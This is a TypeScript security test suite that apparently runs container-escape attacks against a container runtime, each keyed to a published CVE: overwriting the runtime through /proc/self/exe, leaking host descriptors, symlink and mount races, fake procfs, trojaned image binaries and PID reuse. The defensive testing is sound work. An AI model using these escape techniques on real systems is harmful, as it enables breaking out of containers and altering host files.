import { spawn, spawnSync } from 'node:child_process';
import {
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { defaultSeccompProfile } from '../../core/container/seccomp-profile.js';
import { type Json, dockerCapabilities, seccompProfile } from '../conformance/runtime-bundle.js';
import { Arena, list, object, pause, slow, until } from './arena.js';

/** One way to attack the runtime. Gives what was achieved, or nothing when the defence held. */
export interface Attack {
  /** What is attacked, with the published vulnerability where there is one. */
  readonly name: string;
  attempt(arena: Arena): string | undefined;
}

const namespaces = (spec: Json): Json[] => list(object(spec['linux'])['namespaces']);
const mounts = (spec: Json): Json[] => list(spec['mounts']);

/** As if nothing were mounted there: what the image has is what the runtime finds. */
const without =
  (...destinations: readonly string[]) =>
  (spec: Json): unknown =>
    (spec['mounts'] = mounts(spec).filter(({ destination }) => !destinations.some((gone) => String(destination).startsWith(gone))));

const replaceInImage = (arena: Arena, path: string, target: string): void => {
  const at = join(arena.rootfs, path);
  rmSync(at, { recursive: true, force: true });
  mkdirSync(join(at, '..'), { recursive: true });
  symlinkSync(target, at);
};

/** The attack goes through when the host's folder is not as it was. */
const changesVictim = (arena: Arena, body: () => void): string | undefined => {
  const before = arena.victimState();
  body();
  return arena.victimState() === before ? undefined : 'the host’s files were changed';
};

/** What a program of the image touches when it is executed: the host has no /inside, and the container not the arena's folder. */
const trojanCanaries = (arena: Arena): string[] => {
  mkdirSync(join(arena.rootfs, 'inside'));
  return [join(arena.folder, 'canary'), join(arena.rootfs, 'inside/canary')];
};

const PLACES = ['dev', 'dev/pts', 'dev/shm', 'dev/mqueue', 'proc', 'sys', 'sys/fs/cgroup', 'etc', 'run', 'tmp', 'data'];

export const attacks: readonly Attack[] = [
  {
    name: 'overwriting the runtime through /proc/PID/exe (CVE-2019-5736)',
    attempt(arena) {
      const before = arena.programHash();
      symlinkSync('/proc/self/exe', join(arena.rootfs, 'bin/evil'));
      mkdirSync(join(arena.rootfs, 'b'));
      spawnSync('mkfifo', [join(arena.rootfs, 'b/config.json')]);
      // Who is executed as the runtime itself waits for a configuration; the first process keeps its file, ends it, and writes.
      const hunt = `while :; do for p in /proc/[0-9]*; do
        if grep -q '^evil' $p/comm 2>/dev/null; then exec 9<$p/exe; echo caught >/caught; kill -9 \${p#/proc/}; sleep 0.3; echo owned >>/proc/self/fd/9; exec sleep 100; fi
      done; done`;
      arena.start(['sh', '-c', hunt]);
      const { err } = arena.call('exec', 'c', '/bin/evil', 'run', '-b', '/b', 'x');
      // There is no such file where the process is that looks for it.
      if (err.includes('stat /bin/evil: no such file or directory')) return undefined;
      for (let i = 0; i < 100 * slow && !existsSync(join(arena.rootfs, 'caught')); i++) pause(50);
      pause(1000 * slow);
      if (!existsSync(join(arena.rootfs, 'caught'))) return 'the attack itself did not work';
      return arena.programHash() === before ? undefined : 'the runtime’s file was changed';
    },
  },
  {
    name: 'a process on its way into a container that traces (CVE-2016-9962)',
    attempt(arena) {
      const trace = (spec: Json): void => {
        const all = [...dockerCapabilities, 'CAP_SYS_PTRACE'];
        object(spec['process'])['capabilities'] = { bounding: all, effective: all, permitted: all };
        object(spec['linux'])['seccomp'] = seccompProfile();
        // A secret of the host's that goes through the memory of every runtime.
        spec['hooks'] = { poststop: [{ path: '/bin/true', env: [`SECRET=${canary}`] }] };
      };
      const canary = 'the-canary-of-the-host';
      arena.addIntruder();
      if (arena.start(['/intruder', 'watch', [...canary].toReversed().join('')], trace) === undefined)
        return 'the attack itself did not work';
      const found = (): string[] => readFileSync(join(arena.rootfs, 'found'), 'utf8').trim().split('\n');
      until(() => existsSync(join(arena.rootfs, 'found')));
      let execs = 0;
      // Not every process is caught in time; some must be.
      until(() => {
        const { code, err } = arena.callWith({ SECRET: canary }, 'exec', '--user', execs % 2 === 0 ? '0' : '1000', 'c', 'true');
        if (code !== 0) throw new Error(`exec under attack failed: ${err}`);
        execs++;
        const seen = found().filter((line) => line === 'seen').length;
        return (execs >= 100 && seen >= 10) || found().some((line) => !['seen', 'watching'].includes(line));
      });
      const wrong = new Set(found().filter((line) => !['seen', 'watching'].includes(line)));
      if (wrong.size > 0) return [...wrong].join(', ');
      return found().includes('seen') ? undefined : 'the attack itself did not work';
    },
  },
  {
    name: 'the keys of whoever calls the runtime',
    attempt(arena) {
      arena.addIntruder();
      const own = arena.run(['/intruder', 'keyring']).out.trim();
      arena.start(['sleep', '100']);
      const exec = arena.call('exec', 'c', '/intruder', 'keyring').out.trim();
      return own.endsWith(';_ses.c') && exec.endsWith(';_ses.c') ? undefined : `session keyrings ${own} and ${exec}`;
    },
  },
  {
    name: 'a working directory that is a descriptor of the host’s (CVE-2024-21626)',
    attempt(arena) {
      const host = openSync(arena.victim, 'r');
      try {
        for (const cwd of ['/proc/self/fd/3', '/proc/1/fd/3', '/link']) {
          if (cwd === '/link' && !existsSync(join(arena.rootfs, 'link'))) symlinkSync('/proc/self/fd/3', join(arena.rootfs, 'link'));
          arena.configure(['cat', './file'], (spec) => (object(spec['process'])['cwd'] = cwd));
          // Whoever calls the runtime may have left anything open.
          const words = ['--root', join(arena.folder, 'state'), 'run', '--bundle', arena.folder, 'c'];
          const { stdout } = spawnSync(arena.program, words, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore', host] });
          arena.call('delete', '--force', 'c');
          if (stdout.includes('the host’s')) return `a container began in a folder of the host: ${cwd}`;
        }
      } finally {
        closeSync(host);
      }
      return undefined;
    },
  },
  {
    name: 'descriptors that the runtime inherited',
    attempt(arena) {
      const host = openSync(arena.victim, 'r');
      try {
        arena.configure(['ls', '/proc/self/fd']);
        const words = ['--root', join(arena.folder, 'state'), 'run', '--bundle', arena.folder, 'c'];
        const stdio = ['ignore' as const, 'pipe' as const, 'ignore' as const, host, host, host];
        const { stdout } = spawnSync(arena.program, words, { encoding: 'utf8', stdio });
        // The listing's own is the fourth.
        return stdout.trim().split('\n').length <= 4 ? undefined : `a container has descriptors ${stdout.trim().replaceAll('\n', ' ')}`;
      } finally {
        closeSync(host);
      }
    },
  },
  {
    name: 'a null device of the image’s own over what is masked (CVE-2025-31133)',
    attempt(arena) {
      writeFileSync(join(arena.rootfs, 'etc/decoy'), 'decoy');
      replaceInImage(arena, 'dev/null', '../etc/decoy');
      const { out } = arena.run(['cat', '/proc/timer_list', '/proc/keys'], without('/dev'));
      return out.includes('decoy') ? 'a masked file is one of the image’s choice' : undefined;
    },
  },
  {
    name: 'links in the image where the runtime mounts and makes things (CVE-2026-41579 and others)',
    attempt(arena) {
      return changesVictim(arena, () => {
        for (const place of PLACES) {
          for (const target of [`${arena.victim}/inner`, `${'../'.repeat(40)}${arena.victim.slice(1)}/new`, `${arena.victim}/new/deep`]) {
            replaceInImage(arena, place, target);
            arena.run(['true'], (spec) => {
              mounts(spec).push({ destination: `/${place}/below`, type: 'tmpfs', source: 'tmpfs', options: [] });
              object(spec['linux'])['devices'] = [
                { path: `/${place}/node`, type: 'c', major: 1, minor: 3, fileMode: 0o666, uid: 7, gid: 7 },
              ];
            });
            rmSync(join(arena.rootfs, place), { force: true });
            mkdirSync(join(arena.rootfs, place), { recursive: true });
          }
        }
      });
    },
  },
  {
    name: 'a console that is a link out of the image (CVE-2025-52565)',
    attempt(arena) {
      return changesVictim(arena, () => {
        replaceInImage(arena, 'dev/console', `${arena.victim}/console`);
        mkdirSync(join(arena.rootfs, 'dev/pts'), { recursive: true });
        const words = ['--root', join(arena.folder, 'state'), 'run', '--bundle', arena.folder, 'c'];
        arena.configure(['true'], (spec) => {
          object(spec['process'])['terminal'] = true;
          spec['mounts'] = mounts(spec).filter(({ destination }) => destination !== '/dev');
        });
        spawnSync('script', ['-qec', [arena.program, ...words].join(' '), '/dev/null'], { stdio: 'ignore', timeout: 10_000 * slow });
      });
    },
  },
  {
    name: 'a procfs that is something else, for what the runtime writes there (CVE-2019-16884, CVE-2025-52881 and others)',
    attempt(arena) {
      mkdirSync(join(arena.rootfs, 'fake/sys/kernel'), { recursive: true });
      writeFileSync(join(arena.rootfs, 'fake/sys/kernel/msgmax'), '');
      const fake = { type: 'bind', source: join(arena.rootfs, 'fake'), options: ['rbind'] };
      const tries: Json[][] = [
        [{ destination: '/proc', ...fake }],
        [{ destination: '/proc/sys', ...fake, source: join(arena.rootfs, 'fake/sys') }],
        [{ destination: '/proc/self/attr', type: 'tmpfs', source: 'tmpfs', options: [] }],
        [{ destination: '/proc/self/attr/exec', type: 'bind', source: '/proc/self/sched', options: ['bind'] }],
      ];
      for (const hostile of tries) {
        const { code } = arena.run(['true'], (spec) => {
          mounts(spec).push(...hostile);
          object(spec['linux'])['sysctl'] = { 'kernel.msgmax': '1234' };
        });
        if (code === 0) return `mounted over procfs: ${JSON.stringify(hostile)}`;
      }
      replaceInImage(arena, 'proc', '/fake');
      return arena.run(['true']).code === 0 ? 'procfs was mounted where a link led' : undefined;
    },
  },
  {
    name: 'a mount’s target that a sibling exchanges for a link (CVE-2021-30465, CVE-2024-45310)',
    attempt(arena) {
      const volume = join(arena.folder, 'volume');
      mkdirSync(join(volume, 'inside'), { recursive: true });
      symlinkSync('inside', join(volume, 'a'));
      // The sibling is a process that renames without end, as one in another container with the same volume would.
      const swap = `const fs = require('fs'); process.chdir(${JSON.stringify(volume)});
        for (;;) for (const to of ['inside', ${JSON.stringify(arena.victim)}]) { fs.symlinkSync(to, 'x'); fs.renameSync('x', 'a'); }`;
      const sibling = spawn(process.execPath, ['-e', swap], { stdio: 'ignore' });
      try {
        return changesVictim(arena, () => {
          for (let round = 0; round < 60; round++) {
            arena.run(['true'], (spec) => {
              mounts(spec).push({ destination: '/v', type: 'bind', source: volume, options: ['rbind'] });
              for (const name of ['one', 'two']) {
                mounts(spec).push({ destination: `/v/a/${name}${round}/x`, type: 'tmpfs', source: 'tmpfs', options: [] });
              }
            });
          }
        });
      } finally {
        sibling.kill('SIGKILL');
      }
    },
  },
  {
    name: 'inheritable capabilities (CVE-2022-24769, CVE-2022-29162)',
    attempt(arena) {
      const status = ['sh', '-c', 'grep -E "CapInh|CapAmb" /proc/self/status'];
      const expected = 'CapInh:\t0000000000000000\nCapAmb:\t0000000000000000\n';
      for (const uid of [0, 1000, 4242]) {
        const { out } = arena.run(status, (spec) => (object(object(spec['process'])['user'])['uid'] = uid));
        if (out !== expected) return `user ${uid}: ${out}`;
      }
      arena.start(['sleep', '100']);
      for (const user of ['0', '1000', '4242:7']) {
        const { out } = arena.call('exec', '--user', user, 'c', ...status);
        if (out !== expected) return `exec as ${user}: ${out}`;
      }
      return undefined;
    },
  },
  {
    name: 'a cgroup tree that a container can write (CVE-2023-25809, CVE-2022-0492)',
    attempt(arena) {
      const write =
        'for f in $(find /sys/fs/cgroup -type f); do (cat $f > $f) 2>/dev/null && echo $f; done; mkdir /sys/fs/cgroup/*/x 2>/dev/null && echo made';
      for (const own of [false, true]) {
        const { out } = arena.run(['sh', '-c', write], (spec) => own && namespaces(spec).push({ type: 'cgroup' }));
        if (out !== '') return `with ${own ? 'its own' : 'the host’s'} cgroup namespace: ${out.split('\n')[0]}`;
      }
      return undefined;
    },
  },
  {
    name: 'code of the kernel that a container has no business with (CVE-2022-0492, CVE-2022-0847 and others)',
    attempt(arena) {
      arena.addIntruder();
      const kernel: [number, number] = [6, 0];
      const target = { capabilities: dockerCapabilities, architecture: process.arch === 'arm64' ? 'arm64' : 'amd64', kernel };
      const { out } = arena.run(['/intruder', 'calls'], (spec) => (object(spec['linux'])['seccomp'] = defaultSeccompProfile(target)));
      const got = new Map(
        out
          .trim()
          .split('\n')
          .map((line) => [line.slice(0, line.indexOf(' ')), line.slice(line.indexOf(' ') + 1)]),
      );
      // EPERM and EACCES; "not there" for clone3, so that the C library goes on with clone, which can be filtered.
      const refused = (name: string): boolean => (name === 'clone3' ? got.get(name) === '38' : ['1', '13'].includes(got.get(name) ?? ''));
      const wrong =
        'socket-alg socket-vsock io_uring_setup userfaultfd keyctl add_key bpf unshare-user clone-user clone3 mount open_by_handle_at'
          .split(' ')
          .filter((name) => !refused(name));
      if (wrong.length > 0) return wrong.map((name) => `${name}: ${got.get(name)}`).join(', ');
      // What programs need goes on working; a kernel without 32-bit programs kills the process or knows no such call.
      if (got.get('socket-inet') !== '0') return `the attack itself did not work: socket-inet: ${got.get('socket-inet')}`;
      const small = got.get('socket-inet-32') ?? '0';
      return ['0', '38', 'signal 11'].includes(small) ? undefined : `a 32-bit program has no sockets: ${small}`;
    },
  },
  {
    name: 'numbers and texts that are longer than what takes them (CVE-2021-43784)',
    attempt(arena) {
      for (const big of [2 ** 32, 2 ** 32 + 1000, 2 ** 53 - 2 ** 32, -1, 0.5]) {
        for (const field of ['uid', 'gid', 'umask']) {
          const { code, out } = arena.run(['id', '-u'], (spec) => (object(object(spec['process'])['user'])[field] = big));
          if (code === 0) return `${field} ${big} was taken, for user ${out.trim()}`;
        }
        const map = [{ containerID: 0, hostID: big, size: 1 }];
        const mapped = arena.run(['id', '-u'], (spec) => {
          namespaces(spec).push({ type: 'user' });
          object(spec['linux'])['uidMappings'] = map;
          object(spec['linux'])['gidMappings'] = map;
        });
        if (mapped.code === 0) return `a mapping to ${big} was taken`;
      }
      // More than 16 bits of length, which a message of netlink has for each attribute.
      const long = 'x'.repeat(70_000);
      const whole = arena.run(['sh', '-c', 'echo ${#LONG} ${#1}', 'sh', long], (spec) =>
        list(object(spec['process'])['env']).push(`LONG=${long}` as never),
      );
      if (whole.out !== '70000 70000\n') return `texts of 70000 bytes arrived as ${whole.out}${whole.err.slice(0, 200)}`;
      const fields: Record<string, (spec: Json) => unknown> = {
        cwd: (spec) => (object(spec['process'])['cwd'] = `/${long}`),
        hostname: (spec) => (spec['hostname'] = long),
        cgroupsPath: (spec) => (object(spec['linux'])['cgroupsPath'] = `/${long}`),
        'a mount’s data': (spec) =>
          mounts(spec).push({ destination: '/tmp', type: 'tmpfs', source: 'tmpfs', options: [`mode=755,${long}`] }),
        'a mount’s destination': (spec) => mounts(spec).push({ destination: `/${long}`, type: 'tmpfs', source: 'tmpfs', options: [] }),
        'a path to mask': (spec) => list(object(spec['linux'])['maskedPaths']).push(`/${long}` as never),
      };
      for (const [field, change] of Object.entries(fields)) {
        const { code, err } = arena.run(['true'], change);
        if (code !== 1 || err === '') return `${field} of 70000 bytes: exit code ${code}`;
      }
      return undefined;
    },
  },
  {
    name: 'a ps of the image’s own (CVE-2022-1227)',
    attempt(arena) {
      const canaries = trojanCanaries(arena);
      rmSync(join(arena.rootfs, 'bin/ps'));
      writeFileSync(join(arena.rootfs, 'bin/ps'), `#!/bin/sh\ntouch ${canaries[0]} /inside/canary\n`, { mode: 0o755 });
      arena.start(['sleep', '100']);
      arena.call('ps', 'c');
      return canaries.some((canary) => existsSync(canary)) ? 'the image’s ps was executed' : undefined;
    },
  },
  {
    name: 'a password file that blocks or has no end',
    attempt(arena) {
      const passwd = join(arena.rootfs, 'etc/passwd');
      const kinds: Record<string, () => void> = {
        'a fifo': () => spawnSync('mkfifo', [passwd]),
        'a link to a device': () => symlinkSync('/dev/zero', passwd),
        'ten sparse gigabytes': () => (writeFileSync(passwd, ''), truncateSync(passwd, 10 * 2 ** 30)),
        'a link to the host’s': () => symlinkSync(`${'../'.repeat(40)}${arena.victim.slice(1)}/file`, passwd),
      };
      for (const [kind, make] of Object.entries(kinds)) {
        rmSync(passwd, { force: true });
        make();
        arena.configure(['sh', '-c', 'echo $HOME'], (spec) => {
          const process = object(spec['process']);
          process['env'] = list(process['env']).filter((pair) => !String(pair).startsWith('HOME='));
        });
        const words = ['--root', join(arena.folder, 'state'), 'run', '--bundle', arena.folder, 'c'];
        const done = spawnSync(arena.program, words, { encoding: 'utf8', timeout: 5000 * slow });
        arena.call('delete', '--force', 'c');
        if (done.error || done.stdout !== '/\n') return `${kind}: ${done.error?.message ?? done.stderr + done.stdout}`;
      }
      return undefined;
    },
  },
  {
    name: 'devices beyond the list, also after exec and update',
    attempt(arena) {
      // 1:1 is the machine's memory, 10:200 a tunnel, 7:0 a loop; making them is allowed, opening is not.
      const open =
        'mknod /m c 1 1; mknod /t c 10 200; mknod /l b 7 0; for d in m t l; do (: </$d) 2>/dev/null && echo opened $d; done; (: </dev/null) || echo none; rm -f /m /t /l';
      const first = arena.run(['sh', '-c', open]);
      if (first.out !== '') return first.out;
      arena.start(['sleep', '100']);
      const exec = arena.call('exec', 'c', 'sh', '-c', open).out;
      arena.call('update', '--pids-limit', '100', 'c');
      const updated = arena.call('exec', 'c', 'sh', '-c', open).out;
      return exec + updated === '' ? undefined : exec + updated;
    },
  },
  {
    name: 'sysctls of the host, by any spelling (CVE-2022-0811)',
    attempt(arena) {
      const current = readFileSync('/proc/sys/kernel/panic', 'utf8').trim();
      const names = [
        'kernel.panic',
        'kernel/panic',
        'net/../kernel/panic',
        'net.ipv4/../../kernel/panic',
        'kernel..panic',
        '.kernel.panic',
        'net...kernel.panic',
      ];
      names.push(
        'vm.swappiness',
        'fs.file-max',
        'kernel.core_pattern',
        'kernel.hostname',
        'dev.tty.legacy_tiocsti',
        '',
        '/',
        '..',
        'net',
        'net.',
      );
      for (const separator of ['+', '=', '\n', ' ', '\t', '%2e', '\\'])
        names.push(`net.ipv4.ip_forward${separator}kernel.panic`, `kernel${separator}panic`);
      for (const name of names) {
        const { code } = arena.run(['true'], (spec) => (object(spec['linux'])['sysctl'] = { [name]: current }));
        if (code === 0) return `accepted: ${JSON.stringify(name)}`;
      }
      const { code } = arena.run(['true'], (spec) => {
        object(spec['linux'])['namespaces'] = namespaces(spec).filter(({ type }) => type !== 'network');
        object(spec['linux'])['sysctl'] = { 'net.ipv4.ip_default_ttl': readFileSync('/proc/sys/net/ipv4/ip_default_ttl', 'utf8').trim() };
      });
      return code === 0 ? 'set in the network namespace of the host' : undefined;
    },
  },
  {
    name: 'the runtime’s own environment in a container (CVE-2026-57231)',
    attempt(arena) {
      arena.configure(['env']);
      const words = ['--root', join(arena.folder, 'state'), 'run', '--bundle', arena.folder, 'c'];
      const { stdout } = spawnSync(arena.program, words, { encoding: 'utf8', env: { CANARY: 'sings' } });
      return /CANARY|_GANTRY/.test(stdout) ? 'its environment got into the container' : undefined;
    },
  },
  {
    name: 'the session of whoever started the runtime, for TIOCSTI',
    attempt(arena) {
      // Field 6 of stat: 0 is a session outside of the container's process namespace.
      const own = arena.run(['cut', '-d', ' ', '-f', '6', '/proc/self/stat']).out.trim();
      arena.start(['sleep', '100']);
      const exec = arena.call('exec', 'c', 'cut', '-d', ' ', '-f', '6', '/proc/self/stat').out.trim();
      return own === '0' || exec === '0' ? 'a container is in the caller’s session' : undefined;
    },
  },
  {
    name: 'a process’s number that a stranger has now',
    attempt(arena) {
      arena.configure(['sleep', '100']);
      // In a process namespace of its own, where the next number can be chosen.
      const script = `
        mount -t proc proc /proc; r="${arena.program} --root ${arena.folder}/state"
        $r run --detach --bundle ${arena.folder} --pid-file ${arena.folder}/pid c </dev/null >/dev/null 2>&1
        pid=$(cat ${arena.folder}/pid); kill -9 $pid
        while kill -0 $pid 2>/dev/null; do sleep 0.05; done
        for i in 1 2 3 4 5 6 7 8; do
          echo $((pid - 1)) > /proc/sys/kernel/ns_last_pid; sleep 100 & victim=$!
          [ $victim = $pid ] && break; kill -9 $victim
        done
        [ $victim = $pid ] || { echo unlucky; exit; }
        sleep 1; $r kill c KILL; $r delete --force c
        kill -0 $victim 2>/dev/null && [ "$(cut -d' ' -f3 /proc/$victim/stat)" != Z ] && echo alive || echo dead`;
      const words = ['--pid', '--mount', '--fork', '--kill-child', '--propagation', 'private', 'bash', '-c', script];
      const { stdout, stderr } = spawnSync('unshare', words, { encoding: 'utf8', timeout: 30_000 * slow });
      if (stdout.includes('alive')) return undefined;
      return stdout.includes('dead') ? 'a stranger was killed' : `the attack itself did not work: ${stdout}${stderr}`;
    },
  },
  {
    name: 'programs and libraries of the image in the runtime’s hands (CVE-2019-14271)',
    attempt(arena) {
      const canaries = trojanCanaries(arena);
      for (const name of ['ps', 'nsenter', 'tar', 'gantry-seccomp', 'runc']) {
        writeFileSync(join(arena.rootfs, 'bin', `${name}-trojan`), `#!/bin/sh\ntouch ${canaries[0]} /inside/canary\n`, { mode: 0o755 });
        rmSync(join(arena.rootfs, 'bin', name), { force: true });
        renameSync(join(arena.rootfs, 'bin', `${name}-trojan`), join(arena.rootfs, 'bin', name));
      }
      mkdirSync(join(arena.rootfs, 'lib'), { recursive: true });
      for (const name of ['libnss_files.so.2', 'libc.so.6', 'ld-linux-x86-64.so.2'])
        writeFileSync(join(arena.rootfs, 'lib', name), 'trojan');
      writeFileSync(join(arena.rootfs, 'etc/ld.so.preload'), '/lib/libc.so.6\n');
      arena.start(['sleep', '100'], (spec) => (object(spec['linux'])['seccomp'] = seccompProfile()));
      arena.call('ps', 'c');
      arena.call('exec', '--user', '1000', 'c', 'true');
      arena.call('events', '--stats', 'c');
      arena.call('delete', '--force', 'c');
      return canaries.some((canary) => existsSync(canary)) ? 'a program of the image was executed' : undefined;
    },
  },
];
